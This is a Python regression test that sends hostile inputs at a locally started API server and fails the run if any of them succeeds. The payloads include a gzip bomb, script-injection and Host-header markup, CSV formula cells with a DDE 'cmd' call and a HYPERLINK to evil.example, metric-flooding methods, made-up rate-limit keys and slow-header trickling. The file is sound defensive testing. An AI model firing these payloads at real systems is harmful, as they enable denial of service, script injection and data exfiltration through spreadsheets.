#!/usr/bin/env python3
"""Hostile inputs against the real server (tests/ops/hostile.sh starts it).

    hostile.py URL PID MUNICIPALITY_KEY

Each case is what the hardening report (issue 31) did to the release binary,
and fails the run if it works again:

  gzip bomb      1 MiB of gzip inflating to 1 GiB, anonymous and with a
                 made-up key: 413 or 401, and the server's peak resident
                 memory rises by less than 50 MB (read from /proc/PID/status)
  header payloads  X-Forwarded-Proto and Host carrying markup and CRLF: 400
                 or inert, never echoed into the page, a link or the calendar
  formula cells  a key-holder's external_id and provider starting with = + - @
                 come back neutralised in CSV
  odd methods    fifty invented 2,000-character methods and 60 KB paths grow
                 /metrics by nothing
  limiter sidesteps  made-up keys (Bearer v1 ...) share one write budget;
                 a junk Authorization on a read is 401, not a cache miss
  year 0         start_date 0000-01-01 is 422 (it was a 500 on PostgreSQL)
  slow headers   a request trickling its headers a byte at a time is cut
                 off within the header deadline
"""

import csv
import gzip
import http.client
import io
import json
import socket
import sys
import time
import urllib.parse

URL, PID, KEY = sys.argv[1], int(sys.argv[2]), sys.argv[3]
HOST = urllib.parse.urlsplit(URL).hostname
PORT = urllib.parse.urlsplit(URL).port
failures = []


def check(ok, what):
    print(("  ok   " if ok else "  FAIL ") + what, flush=True)
    if not ok:
        failures.append(what)


def request(method, path, body=None, headers=None, timeout=60):
    conn = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        headers = dict(headers or {})
        headers.setdefault("Host", f"{HOST}:{PORT}")
        for k, v in headers.items():
            conn.putheader(k, v)
        if body is not None:
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        r = conn.getresponse()
        return r.status, dict(r.getheaders()), r.read()
    except (ConnectionError, http.client.HTTPException, socket.timeout) as e:
        return None, {}, str(e).encode()
    finally:
        conn.close()


def rss_kib():
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):  # the peak resident set
                return int(line.split()[1])
    return 0


# --- gzip bomb -------------------------------------------------------------
bomb = gzip.compress(b"{" + b" " * (1 << 30) + b"}", compresslevel=9)
before = rss_kib()
for auth in (None, "Bearer nope"):
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    if auth:
        headers["Authorization"] = auth
    status, _, _ = request("PUT", "/v1/programmes/abc", bomb, headers)
    check(status in (401, 413), f"gzip bomb ({len(bomb) >> 10} KiB -> 1 GiB, {auth or 'no key'}): {status}")
status, _, _ = request("PUT", "/v1/municipalities/1980/sessions/B-1", bomb,
                       {"Content-Type": "application/json", "Content-Encoding": "gzip",
                        "Authorization": f"Bearer {KEY}"})
check(status == 413, f"gzip bomb with a real key: {status}")
grew = (rss_kib() - before) / 1024
check(grew < 50, f"peak resident memory rose {grew:.1f} MB (bound 50)")

# --- header payloads ------------------------------------------------------
payload = 'javascript:alert(1)//"><script>alert(1)</script>'
for path in ("/", "/v1/sessions?limit=1", "/v1/sessions.ics", "/v1/catalog"):
    status, headers, body = request("GET", path, headers={"X-Forwarded-Proto": payload})
    text = body.decode(errors="replace") + json.dumps(headers)
    check(status is not None and "<script>alert" not in text and "javascript:" not in text,
          f"X-Forwarded-Proto payload on {path}: {status}, inert")
    status, headers, body = request("GET", path, headers={"Host": 'evil.example"><meta http-equiv=refresh content=0>'})
    text = body.decode(errors="replace") + json.dumps(headers)
    check(status == 400 and "http-equiv" not in text, f"a Host that is no authority on {path}: {status}")

# --- formula cells --------------------------------------------------------
formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
session = {"external_id": "=cmd|' /C calc'!A0", "programme": "abc", "status": "completed",
           "start_date": "2025-03-01", "delivery": "in_person", "languages": ["sv"],
           "enrolled": 12, "completed": 10, "women": 7, "men": 5, "vulnerable_area": 3,
           "satisfaction_respondents": 8, "satisfied": 7, "provider": formula, "area": "@SUM(1+1)"}
status, _, reply = request("PUT", "/v1/municipalities/1980/sessions/" + urllib.parse.quote(session["external_id"], safe=""),
                           json.dumps(session).encode(),
                           {"Content-Type": "application/json", "Authorization": f"Bearer {KEY}"})
check(status == 201, f"a session with formula-like text written: {status} {reply[:120]!r}")
status, _, body = request("GET", "/v1/sessions?municipality=1980&format=csv")
cells = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
dangerous = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
check(status == 200 and not dangerous, f"CSV cells neutralised: {dangerous[:3]}")

# --- odd methods and long paths -------------------------------------------
def series():
    """The metric series /metrics holds (name and labels; values left out)."""
    text = request("GET", "/metrics")[2].decode()
    return {line.rsplit(" ", 1)[0] for line in text.splitlines() if line and not line.startswith("#")}


request("X" * 10, "/v1/programmes")
request("GET", "/v1/" + "a" * 60_000)
series()
before = series()
for n in range(50):
    request("X" * (2000 + n), "/v1/programmes")
    request("GET", "/v1/" + "a" * 60_000 + str(n))
after = series()
new = after - before
leaked = [s for s in after if "XXXX" in s or "aaaa" in s]
# A new status may add one label set (18 series: count, sum, 16 buckets);
# a series per method or path would add hundreds.
check(not leaked and len(new) <= 36,
      f"/metrics: {len(new)} new series after 50 odd methods and 60 KB paths, none naming them")

# --- limiter sidesteps ----------------------------------------------------
statuses = []
for n in range(15):
    status, _, _ = request("PUT", f"/v1/municipalities/1980/sessions/S-{n}", json.dumps(session).encode(),
                           {"Content-Type": "application/json", "Authorization": f"Bearer v{n}"})
    statuses.append(status)
check(statuses.count(429) >= 15 - 5, f"15 made-up keys, write limit 5: {statuses}")
status, headers, _ = request("GET", "/v1/reach?group_by=municipality", headers={"Authorization": "Bearer junk"})
check(status == 401, f"a junk Authorization on a read: {status}")

# --- year 0 -----------------------------------------------------------------
year0 = dict(session, external_id="Y0", start_date="0000-01-01", provider=None, area=None)
status, _, body = request("PUT", "/v1/municipalities/1980/sessions/Y0", json.dumps(year0).encode(),
                          {"Content-Type": "application/json", "Authorization": f"Bearer {KEY}"})
check(status in (422, 429), f"start_date 0000-01-01: {status}")
status, _, _ = request("GET", "/v1/sessions?start_from=0000-01-01")
check(status == 400, f"?start_from=0000-01-01: {status}")

# --- slow headers -------------------------------------------------------------
s = socket.create_connection((HOST, PORT))
s.settimeout(0.3)
s.sendall(b"GET /health/live HTTP/1.1\r\nX-Slow: ")
started = time.monotonic()
closed = None
while time.monotonic() - started < 20:
    try:
        s.sendall(b"x")
        if s.recv(64) == b"":
            closed = time.monotonic() - started
            break
    except socket.timeout:
        continue
    except OSError:
        closed = time.monotonic() - started
        break
s.close()
check(closed is not None and closed < 5, f"headers trickled a byte at a time: cut off after {closed} s (deadline 2 s)")

if failures:
    print(f"hostile inputs: {len(failures)} FAILED", file=sys.stderr)
    sys.exit(1)
print("hostile inputs: all refused or inert")
